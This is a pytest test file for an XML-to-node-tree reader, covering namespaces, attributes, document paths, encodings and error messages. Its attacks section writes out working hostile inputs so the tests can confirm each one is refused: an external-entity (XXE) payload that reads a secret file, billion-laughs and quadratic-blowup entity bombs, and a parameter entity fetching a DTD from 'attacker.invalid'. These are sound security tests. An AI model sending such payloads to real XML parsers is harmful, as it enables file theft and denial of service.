"""XML files into node trees: local names, attributes, text, where; entity attacks refused."""

from __future__ import annotations

import pytest
from lxml import etree

from gateway.errors import FlatFileError
from gateway.formats.flatfile import FlatLayout, xmldoc
from gateway.mapping.paths import parse

ORDERS_WITH_NAMESPACES = b"""\
<?xml version="1.0" encoding="UTF-8"?>
<po:Orders xmlns:po="urn:acme:orders" xmlns:ext="urn:acme:ext" batch="B-7">
  <!-- two orders -->
  <po:Order id="PO-1" ext:priority="high">
    <po:OrderDate>2024-01-05</po:OrderDate>
    <po:Note>dock 4</po:Note>
    <po:Note>call first</po:Note>
    <Line number="1"><Sku> SKU-A </Sku><Qty unit="EA">10</Qty></Line>
    <Line number="2"><Sku>SKU-B</Sku><Qty unit="CA">1</Qty></Line>
  </po:Order>
  <po:Order id="PO-2">
    <po:OrderDate>2024-01-06</po:OrderDate>
    <Line number="1"><Sku>SKU-C</Sku><Qty>3</Qty></Line>
  </po:Order>
</po:Orders>
"""

REFUSED = "XML with a DOCTYPE declaring entities is refused"


def test_orders_with_attributes_and_namespaces(write, read_file):
    docs = read_file({"format": "xml", "document": "Order"}, write("orders_with_namespaces.xml", ORDERS_WITH_NAMESPACES))
    assert [(d.name, d.value("@id")) for d in docs] == [("Order", "PO-1"), ("Order", "PO-2")]
    first = docs[0]
    assert first.value("@priority") == "high"  # a namespaced attribute by its local name
    assert first.value("@missing") is None
    assert first.value("OrderDate") == "2024-01-05"  # text of the first child element with that tag
    assert parse("Note/.").values(first) == ["dock 4", "call first"]
    lines = first.children("Line")
    assert [(x.value("@number"), x.value("Sku"), x.children("Qty")[0].value("@unit")) for x in lines] == [
        ("1", "SKU-A", "EA"), ("2", "SKU-B", "CA")]
    assert parse("Line[@number=2]/Qty").value(first) == "1"
    assert parse("Line/Qty/@unit").values(first) == ["EA", "CA"]
    assert [c.name for c in first.children()] == ["OrderDate", "Note", "Note", "Line", "Line"]  # no comments


def test_where_gives_the_source_line_and_element_path(write, read_file):
    docs = read_file({"format": "xml", "document": "Order"}, write("orders_with_namespaces.xml", ORDERS_WITH_NAMESPACES))
    assert docs[1].where == "orders_with_namespaces.xml line 11 (/Orders/Order[2])"
    assert docs[0].children("Line")[1].where == "orders_with_namespaces.xml line 9 (/Orders/Order[1]/Line[2])"


@pytest.mark.parametrize(("document", "expected"), [
    ("Order", ["PO-1", "PO-2"]),
    ("Orders/Order", ["PO-1", "PO-2"]),
    ("/Orders/Order", ["PO-1", "PO-2"]),
    (".", [None]),
])
def test_document_selection(write, read_file, document, expected):
    docs = read_file({"format": "xml", "document": document}, write("orders_with_namespaces.xml", ORDERS_WITH_NAMESPACES))
    assert [d.value("@id") for d in docs] == expected


def test_the_root_element_as_the_document(write, read_file):
    (root,) = read_file({"format": "xml"}, write("orders_with_namespaces.xml", ORDERS_WITH_NAMESPACES))
    assert (root.name, root.value("@batch"), len(root.children("Order"))) == ("Orders", "B-7", 2)


def test_the_encoding_declaration_is_honoured(write, read_file):
    data = '<?xml version="1.0" encoding="ISO-8859-1"?><Order><City>M\u00fcnchen</City></Order>'.encode("latin-1")
    (doc,) = read_file({"format": "xml"}, write("latin1_declared.xml", data))
    assert doc.value("City") == "M\u00fcnchen"


def test_a_doctype_without_entities_is_read_and_its_dtd_never_loaded(write, read_file, tmp_path):
    dtd = write("orders.dtd", '<!ATTLIST Order status CDATA "from-the-dtd">')
    data = f'<?xml version="1.0"?>\n<!DOCTYPE Order SYSTEM "{dtd.as_uri()}">\n<Order id="1"/>'
    (doc,) = read_file({"format": "xml"}, write("doctype_external_dtd.xml", data))
    assert doc.value("@id") == "1"
    assert doc.value("@status") is None  # the DTD's default attribute was not applied: the DTD was not read


# -- attacks -------------------------------------------------------------------------------------------


@pytest.fixture
def secret(tmp_path):
    path = tmp_path / "secret.txt"
    path.write_text("TOP-SECRET-PASSWORD", encoding="utf-8")
    return path


def xxe(secret) -> bytes:
    return (f'<?xml version="1.0"?>\n<!DOCTYPE Order [<!ENTITY xxe SYSTEM "{secret.as_uri()}">]>\n'
            "<Order><Note>&xxe;</Note></Order>").encode()


BILLION_LAUGHS = b'<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n' + b"".join(
    b' <!ENTITY lol%d "%s">\n' % (n, (b"&lol%s;" % (str(n - 1).encode() if n > 1 else b"")) * 10) for n in range(1, 10)
) + b']>\n<lolz a="&lol9;">&lol9;</lolz>'

QUADRATIC_BLOWUP = (b'<?xml version="1.0"?>\n<!DOCTYPE kaboom [<!ENTITY a "' + b"x" * 50_000 + b'">]>\n<kaboom>'
                    + b"&a;" * 10_000 + b"</kaboom>")


def test_external_entity_xxe_is_refused(write, read_file, secret):
    with pytest.raises(FlatFileError) as err:
        read_file({"format": "xml"}, write("xxe_external_entity.xml", xxe(secret)))
    assert str(err.value).startswith(f"xxe_external_entity.xml: {REFUSED}")
    assert "TOP-SECRET" not in str(err.value)
    assert err.value.code == "flatfile.invalid"


def test_billion_laughs_is_refused(write, read_file):
    with pytest.raises(FlatFileError, match=f"^billion_laughs.xml: {REFUSED}"):
        read_file({"format": "xml"}, write("billion_laughs.xml", BILLION_LAUGHS))


def test_quadratic_blowup_is_refused(write, read_file):
    with pytest.raises(FlatFileError, match=f"^quadratic_blowup.xml: {REFUSED}"):
        read_file({"format": "xml"}, write("quadratic_blowup.xml", QUADRATIC_BLOWUP))


def test_parameter_entity_is_refused(write, read_file):
    data = b'<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>\n<r/>'
    with pytest.raises(FlatFileError, match=REFUSED):
        read_file({"format": "xml"}, write("parameter_entity_remote_dtd.xml", data))


def test_xxe_in_utf16_is_refused(write, read_file, secret):
    data = xxe(secret).decode().replace('version="1.0"', 'version="1.0" encoding="UTF-16"').encode("utf-16")
    with pytest.raises(FlatFileError, match=REFUSED):
        read_file({"format": "xml"}, write("xxe_utf16.xml", data))


def test_the_parser_itself_never_resolves_entities(secret):
    """Second line of defence, should the pre-parse check ever miss a declaration."""
    root = etree.fromstring(xxe(secret), xmldoc.parser())
    assert "TOP-SECRET" not in etree.tostring(root).decode()
    with pytest.raises(etree.XMLSyntaxError):
        etree.fromstring(BILLION_LAUGHS, xmldoc.parser())  # libxml2's amplification limit, not gigabytes of lol


def test_declarations_are_checked_after_parsing_too(secret, monkeypatch):
    monkeypatch.setattr(xmldoc, "_declares_entities", lambda data: False)
    with pytest.raises(FlatFileError, match=REFUSED):
        xmldoc.read_xml(FlatLayout.from_data({"format": "xml"}), xxe(secret), "xxe_missed_by_scan.xml")


# -- other failures ------------------------------------------------------------------------------------

FAILURES = [  # (file named after the failure, content, document, expected message)
    ("mismatched_end_tag.xml", b"<Orders>\n  <Order>\n  </Ordr>\n</Orders>", ".",
     "mismatched_end_tag.xml line 3: not well-formed XML: Opening and ending tag mismatch: Order line 2 and Ordr"),
    ("empty_file.xml", b"", ".", "empty_file.xml line 1: not well-formed XML: Document is empty"),
    ("root_is_not_the_expected_element.xml", b"<Invoices/>", "Orders/Order",
     "root_is_not_the_expected_element.xml line 1: document path 'Orders/Order': the root element is 'Invoices', not 'Orders'"),
    ("undeclared_entity.xml", b"<Order>&nbsp;</Order>", ".",
     "undeclared_entity.xml line 1: not well-formed XML: Entity 'nbsp' not defined"),
    ("undecodable_bytes.xml", b'<?xml version="1.0" encoding="UTF-8"?><Order>\xff</Order>', ".",
     "undecodable_bytes.xml line 1: not well-formed XML:"),
]


@pytest.mark.parametrize(("name", "content", "document", "expected"), FAILURES, ids=[f[0] for f in FAILURES])
def test_failure_gives_a_clear_message(write, read_file, name, content, document, expected):
    with pytest.raises(FlatFileError) as err:
        read_file({"format": "xml", "document": document}, write(name, content))
    assert str(err.value).startswith(expected)
